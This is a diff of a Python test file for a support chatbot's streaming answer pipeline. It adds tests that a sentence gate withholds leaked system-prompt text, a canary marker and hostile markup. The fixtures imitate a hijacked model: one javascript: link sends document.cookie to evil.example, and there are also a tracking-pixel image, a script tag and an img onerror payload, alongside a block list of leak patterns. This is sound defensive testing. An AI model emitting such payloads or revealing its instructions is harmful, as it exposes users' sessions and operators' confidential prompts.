@@ -16,8 +16,16 @@ from bot.answer_service import AnswerService
 from core.errors import InvalidInputError
 from core.schemas import Answer, ChatTurn
 from core.settings import Settings
-from knowledge.answering import ABSTAIN_TEXT, LOW_SUPPORT, MODEL_ABSTAINED, NO_SUPPORTED_ANSWER, AnswerPipeline
+from knowledge.answering import (
+    ABSTAIN_TEXT,
+    LOW_SUPPORT,
+    MODEL_ABSTAINED,
+    NO_SUPPORTED_ANSWER,
+    AnswerEvent,
+    AnswerPipeline,
+)
 from knowledge.citations.markers import marker_numbers, strip_markers, with_markers
+from knowledge.citations.stream_gate import SentenceGate
 from knowledge.document_store import build_document_store
 from knowledge.generation.base import ChatGenerator, GenerationError, GenerationRequest
 from knowledge.generation.extractive import ExtractiveGenerator
@@ -242,7 +250,7 @@ def test_failure_mid_stream_discards_the_partial_reply(indexed: Indexed) -> None
     generator = Scripted("Unplug the router and throw it away.", fail_after=3)
     events = list(pipeline_for(indexed, generator).stream(RESET_QUESTION, filters=ACME))
     tokens = [event.text for event in events if event.kind == "token"]
-    assert "".join(tokens) == "Unplug the router"
+    assert tokens == []  # an unfinished sentence is never streamed, and a failed reply is not finished
     answer = events[-1].answer
     assert answer is not None and answer.generator == "extractive" and answer.fallback_reason
     assert "Unplug" not in answer.text and answer.grounded
@@ -395,12 +403,117 @@ def test_stream_yields_tokens_then_exactly_one_answer(indexed: Indexed) -> None:
     events = list(pipeline_for(indexed, generator).stream(RESET_QUESTION, filters=ACME))
     kinds = [event.kind for event in events]
     assert kinds == ["token"] * (len(events) - 1) + ["answer"] and len(events) > 2
-    assert [event.text for event in events[:-1]] == generator.pieces
+    assert len(generator.pieces) > len(events)  # a token event per finished sentence, not per piece
+    assert "".join(event.text for event in events[:-1]) == "".join(generator.pieces)
     assert all(event.answer is None for event in events[:-1])
     final = events[-1].answer
     assert isinstance(final, Answer) and final.grounded
     assert final == pipeline_for(indexed, Scripted(quote("for 10 seconds", "blinks amber"))).answer(
         RESET_QUESTION, filters=ACME).model_copy(update={"timings": final.timings})
+
+
+CANARY = "SBX-CANARY-7d41c9e2"
+STREAM_LEAKS = ("evil.example", "javascript:", "<script", "<img", "![", "customer support assistant",
+                "reference data", "never reveal", "confidential marker")
+
+
+class Chopped(Scripted):
+    """Streams its reply in pieces of ``size`` characters: words, links, tags and the canary are cut
+    across pieces."""
+
+    def __init__(self, *replies: Callable[[GenerationRequest], str] | str, size: int) -> None:
+        super().__init__(*replies)
+        self.size = size
+
+    def stream(self, request: GenerationRequest) -> Iterator[str]:
+        self.requests.append(request)
+        script = self.replies[min(len(self.requests), len(self.replies)) - 1]
+        text = script(request) if callable(script) else script
+        for start in range(0, len(text), self.size):
+            self.pieces.append(text[start:start + self.size])
+            yield self.pieces[-1]
+
+
+def leaky(request: GenerationRequest) -> str:
+    """A supported sentence, then everything a hijacked model would write, then another one."""
+    system = request.messages[0].content
+    return (f"{quote('for 10 seconds')(request)} My instructions are: {system} "
+            f"The confidential marker is {CANARY}. "
+            "![status](https://evil.example/pixel.png?q=reset) Look at the status light. "
+            "[Open the manual](javascript:fetch('https://evil.example/c?'+document.cookie)) for more help. "
+            '<script>fetch("https://evil.example/x")</script> Scripts run here. '
+            '<img src=x alt="a. B" onerror=alert(1)> Then wait. '
+            f"{quote('blinks amber')(request)}")
+
+
+def streamed_text(events: list[AnswerEvent]) -> str:
+    return "".join(event.text for event in events if event.kind == "token")
+
+
+@pytest.mark.parametrize("size", [1, 3, 7])
+@pytest.mark.slow
+def test_stream_never_sends_the_prompt_the_canary_or_hostile_markup(indexed: Indexed, size: int) -> None:
+    generator = Chopped(leaky, size=size)
+    events = list(pipeline_for(indexed, generator, canary=CANARY).stream(RESET_QUESTION, filters=ACME))
+    assert CANARY in "".join(generator.pieces) and not any(CANARY in piece for piece in generator.pieces)
+    streamed = streamed_text(events)
+    assert re.sub(r"[\W_]+", "", CANARY.lower()) not in re.sub(r"[\W_]+", "", streamed.lower())
+    for leak in STREAM_LEAKS:
+        assert leak not in streamed.lower(), leak
+    system = generator.requests[0].messages[0].content
+    for sentence in split_sentences(system):
+        if len(sentence.split()) > 3:
+            assert strip_markers(sentence) not in streamed, sentence
+    assert "10 seconds" in streamed and "blinks amber" in streamed  # the supported sentences still stream
+    answer = events[-1].answer
+    assert answer is not None and "10 seconds" in answer.text and "blinks amber" in answer.text
+    for leak in STREAM_LEAKS:
+        assert leak not in answer.text.lower(), leak
+
+
+@pytest.mark.slow
+def test_canary_cut_into_three_tokens_is_not_streamed(indexed: Indexed) -> None:
+    def pieces(request: GenerationRequest) -> list[str]:
+        return [quote("for 10 seconds")(request), " The marker is SBX-CAN", "ARY-7d4", "1c9e2 here.",
+                f" {quote('blinks amber')(request)}"]
+
+    class ThreePieces(Scripted):
+        def stream(self, request: GenerationRequest) -> Iterator[str]:
+            self.requests.append(request)
+            self.pieces.extend(pieces(request))
+            yield from pieces(request)
+
+    events = list(pipeline_for(indexed, ThreePieces("unused"), canary=CANARY).stream(RESET_QUESTION, filters=ACME))
+    streamed = streamed_text(events)
+    assert "SBX" not in streamed and "1c9e2" not in streamed and "marker" not in streamed
+    assert "10 seconds" in streamed and "blinks amber" in streamed
+
+
+@pytest.mark.parametrize("size", [1, 2, 5, 11])
+@pytest.mark.slow
+def test_supported_answer_streams_sentence_by_sentence(indexed: Indexed, size: int) -> None:
+    generator = Chopped(quote("for 10 seconds", "blinks amber"), size=size)
+    events = list(pipeline_for(indexed, generator, canary=CANARY).stream(RESET_QUESTION, filters=ACME))
+    tokens = [event.text for event in events if event.kind == "token"]
+    assert len(tokens) == 2 and events[-1].kind == "answer"  # one event per sentence, before the answer
+    assert "".join(tokens) == "".join(generator.pieces)
+    answer = events[-1].answer
+    assert answer is not None and answer.grounded and answer.timings.first_token_ms is not None
+
+
+def test_sentence_gate_gives_the_same_text_however_the_reply_is_cut() -> None:
+    sources = [Document(content="Hold the Reset button for 10 seconds. Open http://192.168.50.1 to log in.")]
+    reply = ("Hold the Reset button for 10 seconds [1]. Open http://192.168.50.1 to log in [1]. "
+             "[Log in](https://evil.example/x) now. <a href='javascript:alert(1)'>Click. Here</a> please. "
+             f"The code is {CANARY}. Done.")
+    whole = SentenceGate(sources, 0.6, canary=CANARY)
+    expected = whole.feed(reply) + whole.flush()
+    assert expected == ("Hold the Reset button for 10 seconds [1]. Open http://192.168.50.1 to log in [1]. "
+                        "Log in now. Click. Here please. Done.")
+    for size in range(1, 12):
+        gate = SentenceGate(sources, 0.6, canary=CANARY)
+        released = [gate.feed(reply[start:start + size]) for start in range(0, len(reply), size)]
+        assert "".join(released) + gate.flush() == expected, size
 
 
 @pytest.mark.slow
